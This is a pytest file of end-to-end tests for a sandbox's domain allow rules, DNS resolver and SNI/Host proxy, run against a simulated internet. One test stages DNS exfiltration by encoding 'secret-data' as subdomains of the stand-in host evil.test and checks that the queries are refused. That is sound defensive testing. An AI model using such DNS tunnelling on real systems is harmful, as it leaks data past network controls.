"""Domain rules end to end: the sandbox's resolver and the SNI/Host proxy, real sandboxes.

A `corral serve` (namespaces runtime) whose uplink is a fake internet with names
(`tls_internet.py`: DNS with a wildcard and a CNAME chain, HTTPS with SNI, HTTP with Host).
Every probe runs inside a sandbox as its root (`n2_probe.py`), with the stdlib resolver and
TLS client, so nothing cooperates with Corral.
"""

from __future__ import annotations

import json
from collections.abc import Callable
from typing import Any

import dnslib
import pytest
from name_probes import PROBE, connections, run_probe
from tls_internet import OTHER, WEB, WEB_2, TlsInternet

pytestmark = pytest.mark.timeout(240)

REFUSED = 5


def _txt_query(name: str) -> str:
    return str(dnslib.DNSRecord.question(name, "TXT").pack().hex())


def test_dns_exfiltration_never_reaches_the_upstream(
    named_sandbox: Callable[..., Any], named_internet: tuple[Any, TlsInternet]
) -> None:
    server, inet = named_internet
    sbx = named_sandbox(["web.test"])
    before = len(inet.dns_queries())
    found = run_probe(
        sbx,
        ["resolve", "c2VjcmV0LWRhdGE.secret.evil.test"],
        ["dns", _txt_query("more-secret-data.secret.evil.test")],
        ["resolve", "web.test"],
    )
    assert str(found[0]).startswith("error"), found
    assert found[1] == REFUSED, found
    assert found[2] == [WEB], found
    asked = inet.dns_queries()[before:]
    assert asked and all("evil" not in name for name in asked), asked  # web.test went up
    denied = connections(server, sbx.sandbox_id, verdict="denied")
    names = {e["name"] for e in denied if e["protocol"] == "dns"}
    assert {"c2vjcmv0lwrhdge.secret.evil.test", "more-secret-data.secret.evil.test"} <= names


def test_allowed_domain_resolves_and_connects(named_sandbox: Callable[..., Any]) -> None:
    sbx = named_sandbox(["web.test"])
    found = run_probe(
        sbx,
        ["resolve", "web.test"],
        ["https", WEB, "web.test"],
        ["http", WEB, "web.test"],
        ["bulk", WEB, 9000, 1 << 20],  # a pinned address is allowed on every port
        ["http", WEB_2, "web.test"],  # an address the sandbox never resolved
    )
    assert found[0] == [WEB]
    assert found[1] == f"https web.test host web.test at {WEB}\n", found
    assert found[2].endswith(f"http host web.test at {WEB}\n"), found
    assert found[3] == 1 << 20, found
    assert str(found[4]).startswith("error"), found


def test_wildcard_domain_matches_names_below_it_only(named_sandbox: Callable[..., Any]) -> None:
    sbx = named_sandbox(["*.wild.test"])
    found = run_probe(
        sbx,
        ["resolve", "api.wild.test"],
        ["https", WEB_2, "api.wild.test"],
        ["resolve", "wild.test"],
        ["https", WEB_2, "wild.test"],  # pinned address, name outside the wildcard
    )
    assert found[0] == [WEB_2]
    assert found[1].startswith("https api.wild.test"), found
    assert str(found[2]).startswith("error"), found
    assert str(found[3]).startswith("error"), found


def test_disallowed_name_on_a_pinned_address_is_refused(
    named_sandbox: Callable[..., Any], named_internet: tuple[Any, TlsInternet]
) -> None:
    server, _ = named_internet
    sbx = named_sandbox(["web.test"])  # shared.test lives on the same address
    found = run_probe(
        sbx,
        ["resolve", "web.test"],
        ["https", WEB, "shared.test"],
        ["http", WEB, "shared.test"],
        ["https", WEB, "web.test"],
    )
    assert str(found[1]).startswith("error"), found
    assert found[2].startswith("HTTP/1.1 403 Forbidden") and "name not allowed" in found[2]
    assert found[3].startswith("https web.test"), found
    denied = connections(server, sbx.sandbox_id, verdict="denied")
    refused = [(e["name"], e["port"], e["reason"]) for e in denied if e["protocol"] == "tcp"]
    assert ("shared.test", 443, "sni: name not allowed") in refused, denied
    assert ("shared.test", 80, "host: name not allowed") in refused, denied


def test_cname_chain_answers_are_pinned_for_the_asked_name(
    named_sandbox: Callable[..., Any],
) -> None:
    sbx = named_sandbox(["alias.test"])
    found = run_probe(
        sbx, ["resolve", "alias.test"], ["https", OTHER, "alias.test"], ["resolve", "edge.cdn.test"]
    )
    assert found[0] == [OTHER]
    assert found[1].startswith("https alias.test"), found
    assert str(found[2]).startswith("error"), found  # the alias target itself is not allowed


async def test_async_sdk_domain_rule_and_live_update(
    named_internet: tuple[Any, TlsInternet], sdk_to: Callable[[Any], None]
) -> None:
    from e2b import AsyncSandbox

    server, inet = named_internet
    sdk_to(server)
    sbx = await AsyncSandbox.create(timeout=60, allow_internet_access=False)
    try:
        await sbx.files.write("/tmp/n2_probe.py", PROBE)
        await sbx.files.write("/tmp/n2-ca.pem", inet.ca_path.read_text())
        command = "python3 /tmp/n2_probe.py '{}'".format(
            json.dumps([["resolve", "web.test"], ["https", WEB, "web.test"]])
        )
        before = json.loads((await sbx.commands.run(command, user="root")).stdout)
        assert all(str(r).startswith("error") for r in before), before
        await sbx.update_network({"allow_out": ["web.test"]})
        after = json.loads((await sbx.commands.run(command, user="root")).stdout)
        assert after[0] == [WEB] and after[1].startswith("https web.test"), after
    finally:
        await sbx.kill()
